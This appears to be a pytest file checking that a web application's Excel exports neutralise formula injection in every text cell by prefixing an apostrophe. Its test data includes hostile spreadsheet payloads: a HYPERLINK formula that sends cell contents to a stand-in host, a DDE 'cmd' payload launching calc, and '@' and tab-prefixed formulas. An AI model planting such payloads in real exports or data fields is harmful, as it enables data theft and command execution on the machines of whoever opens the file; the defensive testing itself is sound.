"""Formula text in every field that reaches a workbook: HOSTILE.md rows 18 and 19, decision 5.

The records are written straight through the models, with the hostile text in every free-text
column an export shows: the exports must neutralise whatever is stored, whichever way it got
in (a page, the API, an import, a database restored from elsewhere). Every list export in
reports.exports (the registry, so a new kind is covered) and the documents' workbooks (the
scorecard, the audit workbook, the questionnaire's) are read back cell by cell: no text cell
may start with a character Excel reads as a formula, and each hostile value comes out as
itself behind one apostrophe.
"""
from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.db import db
from incidents.models import ChargebackStatement
from reports.exports import ensure_registered
from reports.xlsx import FORMULA_TRIGGERS

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "cmd": "+cmd|' /C calc'!A0",
    "sum": "@SUM(A1)",
    "tab": "\t=1+1",
}


def text_cells(body: bytes) -> list:
    """Every text cell of every sheet, after checking none of them could run."""
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
                    cells.append(cell.value)
    return cells


#: The query that lists the scene's record on each list (its page's defaults would hide a
#: closed or old one).
LIST_QUERY = {"incidents": "status=all", "corrective-actions": "status=all"}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_list_export_neutralises_formula_text_in_every_text_column(login_as, hostile_scene, payload):
    client = login_as("admin")
    expected = hostile_scene(payload)
    kinds = ensure_registered()
    assert set(expected) == set(kinds), "a new export kind: add its text fields to hostile_scene"
    for code in kinds:
        response = client.get(f"/exports/{code}.xlsx?{LIST_QUERY.get(code, '')}")
        assert response.status_code == 200, code
        cells = text_cells(response.data)
        for value in expected[code]:
            assert value.startswith(FORMULA_TRIGGERS)
            assert "'" + value in cells, (code, value)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_document_workbooks_neutralise_formula_text(login_as, hostile_scene, payload, carrier_questionnaire,
                                                        send_questionnaire):
    from audits.models import Audit as AuditModel
    from questionnaires.models import Question

    client = login_as("admin")
    hostile_scene(payload)
    audit = db.session.query(AuditModel).filter(AuditModel.location == payload).one()
    question = db.session.query(Question).filter(Question.section.has(version_id=carrier_questionnaire.id)).first()
    question.text = payload
    audit.supplier.code = "DOC-1"  # a code with "/" in it would not fit in the URL
    assignment, _ = send_questionnaire(carrier_questionnaire)
    assignment.supplier.legal_name = payload
    db.session.commit()
    documents = {
        f"/suppliers/{audit.supplier.code}/scorecard.xlsx?to=2026-03": payload,
        f"/audits/{audit.id}/audit.xlsx": payload,
        f"/questionnaires/versions/{carrier_questionnaire.id}/export.xlsx": payload,
        f"/questionnaires/assignments/{assignment.id}/questionnaire.xlsx": payload,
        "/questionnaires/assignments.xlsx": payload,
    }
    for url, value in documents.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert "'" + value in text_cells(response.data), url


def test_numbers_stay_numbers_next_to_neutralised_text(login_as, hostile_scene):
    """A negative amount is a number, not text that starts with a minus (row 19)."""
    client = login_as("admin")
    hostile_scene("-2+3")
    statement = db.session.query(ChargebackStatement).one()
    statement.lines_total = statement.total = Decimal("-5.00")
    db.session.commit()
    workbook = load_workbook(io.BytesIO(client.get("/exports/chargebacks.xlsx").data))
    values = [c.value for row in workbook.active.iter_rows() for c in row]
    assert -5 in values and "'-2+3" in values
